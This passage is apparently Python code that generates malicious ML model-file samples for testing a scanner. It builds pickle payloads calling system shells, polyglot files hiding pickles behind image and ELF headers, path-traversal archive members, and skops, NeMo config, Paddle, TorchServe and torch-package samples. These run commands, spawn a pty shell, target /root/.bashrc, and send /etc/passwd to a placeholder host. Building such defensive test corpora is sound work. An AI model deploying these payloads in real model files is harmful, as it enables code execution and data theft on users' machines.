        "second-root": plain_zip({"a/data.pkl": GOOD, "a/version": b"3\n", "b/data.pkl": EVIL, "b/version": b"3\n"}),
        "in-upper-case": plain_zip({"a/data.pkl": GOOD, "a/DATA.PKL": EVIL, "a/version": b"3\n"}),
        "deflated-pickle": plain_zip({"archive/data.pkl": EVIL, "archive/version": b"3\n"}, 8),
        "packed-by-lzma": plain_zip({"archive/data.pkl": EVIL, "archive/version": b"3\n"}, 14),
        "tensors-of-a-state": torch_zip(
            dump({"w": Build(New(Name("collections", "OrderedDict")), {"x": Call("nt", "system", (SHELL,))})}, 2)
        ),
    }
    for name, data in zips.items():
        yield file("torch-zip", name, "model.pt", data, static="the same call as beside it, which is proved")
    polyglots = {
        "gif-then-pickle": b"GIF89a" + bytes(7) + b";" + EVIL,
        "jpeg-then-zip": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01" + bytes(7) + b"\xff\xd9" + plain_zip({"data.pkl": EVIL}),
        "wav-then-pickle": b"RIFF" + struct.pack("<I", 36) + b"WAVEfmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 8000, 1, 8) + b"data" + bytes(4) + EVIL,
        "elf-then-zip": ELF + plain_zip({"data.pkl": EVIL}),
        "json-then-pickle": b'{"a": 1}' + EVIL,
        "csv-then-zip": b"a,b\n1,2\n" * 50 + plain_zip({"data.pkl": EVIL}),
        "zip-then-zip": plain_zip({"data.pkl": GOOD}) + plain_zip({"data.pkl": EVIL}),
        "sqlite-then-pickle": b"SQLite format 3\0" + struct.pack(">H", 512) + bytes(494) + EVIL,
    }  # fmt: skip
    for name, data in polyglots.items():
        yield file("polyglot", name, "model.bin", data, static="read by whoever reads on")
    longer = {
        "gnu-long-name": "a/" * 80 + "../" * 90 + "x",
        "unicode-dots": "\uff0e\uff0e/\uff0e\uff0e/x",
        "backslash-inside": "a\\..\\..\\..\\x",
        "trailing-blank": ".. /x/../../y",
    }
    for name, path in longer.items():
        yield file(
            "traversal",
            f"zip-{name}",
            "model.zip",
            zipped(Member("readme", b"x"), Member(path, b"x", flags=0 if path.isascii() else 1 << 11)),
            static="acts when it is unpacked",
        )
        yield file(
            "traversal",
            f"tar-{name}",
            "model.tar.xz",
            tarred({"readme": b"x", path: b"x"}, "w:xz"),
            static="acts when it is unpacked",
        )


def _skops(name: str, module: str, loader: str, **more: object) -> bytes:
    root = {"__class__": name, "__module__": module, "__loader__": loader, "__id__": 1, **more}
    return plain_zip({"schema.json": json.dumps({**root, "protocol": 2, "_skops_version": "0.11.0"}).encode()})


def _others() -> Iterator[Sample]:
    rows = {
        "type-of-another-module": _skops("Popen", "subprocess", "TypeNode", content=None),
        "json-node-calls": _skops("eval", "builtins", "JsonNode", content="1", is_json=True),
        "ufunc-of-another-module": _skops("system", "os", "UfuncNode", content=None),
        "list-of-a-function": _skops("list", "builtins", "ListNode", content=[{"__class__": "system", "__module__": "nt", "__loader__": "FunctionNode", "__id__": 2, "content": None}]),
        "default-factory": _skops("defaultdict", "collections", "DefaultDictNode", content={}, default_factory={"__class__": "popen", "__module__": "os", "__loader__": "FunctionNode", "__id__": 2, "content": None}),
        "file-by-an-absolute-path": _skops("ndarray", "numpy", "NdArrayNode", type="numpy", file="/etc/passwd"),
    }  # fmt: skip
    for name, data in rows.items():
        yield file("skops", name, "model.skops", data, **STATIC)
    head = proto((1, 5), (2, proto((100, proto((1, "x"))))))
    coreml = {
        "custom-layer-in-a-pipeline": head
        + proto((202, proto((1, head + proto((500, proto((1, proto((1, "l"), (500, proto((10, "Evil")))))))))))),
        "linked-model-up": head + proto((556, proto((1, proto((1, proto((1, proto((1, "../../x.mlmodelc")))))))))),
        "custom-model-in-an-update": head + proto((10, 1), (555, proto((10, "EvilModel"), (20, b"x")))),
    }
    for name, data in coreml.items():
        yield file("coreml", name, "model.mlmodel", data, **STATIC)

    def program(kind: str, *attributes: bytes) -> bytes:
        operator = proto((3, kind), *((4, one) for one in attributes))
        return proto((1, proto((1, 0), (2, (1 << 64) - 1), (4, operator)))) + proto((4, proto((1, 0))))

    for name, kind in {
        "saves": "save_combine",
        "sends": "send",
        "serves": "listen_and_serv",
        "python-layer": "py_layer",
    }.items():
        yield file(
            "paddle",
            f"program-{name}",
            "model.pdmodel",
            program(kind, proto((1, "file_path"), (2, 2), (5, "/root/.bashrc"))),
            **STATIC,
        )
    delegate = bytes([0x18, 0, 0, 0]) + b"ET12"
    for name, data in {
        "zip-behind": delegate + bytes(32) + plain_zip({"data.pkl": EVIL}),
        "root-of-minus-one": b"\xff\xff\xff\xffET12" + bytes(64),
        "pickle-in-front": EVIL + delegate + bytes(64),
    }.items():
        yield file("executorch", name, "model.pte", data, **STATIC)
    configs = {
        "target-in-a-dataset": "train_ds:\n  dataset:\n    _target_: os.system\n    command: id\n",
        "target-of-a-builtin": "cfg:\n  _target_: builtins.exec\n  _args_: ['1']\n",
        "partial": "cfg:\n  _target_: subprocess.Popen\n  _partial_: true\n",
        "loader-path": "cfg:\n  _target_: importlib.import_module\n  name: evil\n",
    }
    for name, text in configs.items():
        yield file(
            "nemo",
            name,
            "model.nemo",
            tarred({"model_config.yaml": text.encode(), "model_weights.ckpt": torch_zip(GOOD)}),
            "CVE-2025-23304",
            **STATIC,
        )


def _served() -> Iterator[Sample]:
    manifest = '{"model": {"modelName": "m", "serializedFile": "%s", "handler": "%s", "modelVersion": "1.0"}, "archiverVersion": "0.9"}'
    handlers = {
        "handler-imports-by-name": b"__import__('o' + 's').system('id')\ndef handle(d, c):\n    return d\n",
        "handler-compiles": b"exec(compile(open('/tmp/x').read(), 'x', 'exec'))\ndef handle(d, c):\n    return d\n",
        "handler-by-getattr": b"import os\ngetattr(os, 'sys' + 'tem')('id')\n",
        "handler-loads-a-pickle": b"import pickle\npickle.loads(open('x', 'rb').read())\n",
        "handler-opens-an-address": b"import urllib.request as u\nu.urlopen('http://host.invalid/' + open('/etc/passwd').read())\n",
        "handler-through-ctypes": b"import ctypes\nctypes.CDLL(None).system(b'id')\n",
    }
    for name, source in handlers.items():
        entries = {"MAR-INF/MANIFEST.json": (manifest % ("m.pt", "h.py")).encode(), "h.py": source, "m.pt": GOOD}
        yield file("torchserve", name, "model.mar", plain_zip(entries), **STATIC)
    head = {"p/.data/version": b"6\n", "p/.data/extern_modules": b"os\n", "p/.data/python_version": b"3.11.7"}
    uses = dump(New(Name("<torch_package_0>.net", "Net")), 2)
    sources = {
        "source-through-ctypes": b"import ctypes\nctypes.CDLL(None).system(b'id')\n",
        "source-of-hex": b"exec(bytes.fromhex('7072696e742831293b'))\n",
        "source-through-pty": b"import pty\npty.spawn('sh')\n",
        "source-with-a-metaclass": b"class M(type):\n    def __new__(m, *a):\n        __import__('subprocess').run('id')\n        return type(*a)\nclass Net(metaclass=M):\n    pass\n",
    }  # fmt: skip
    for name, source in sources.items():
        yield file(
            "torch-package",
            name,
            "model.pt",
            plain_zip({**head, "p/net.py": source, "p/model/model.pkl": uses}),
            **STATIC,
        )
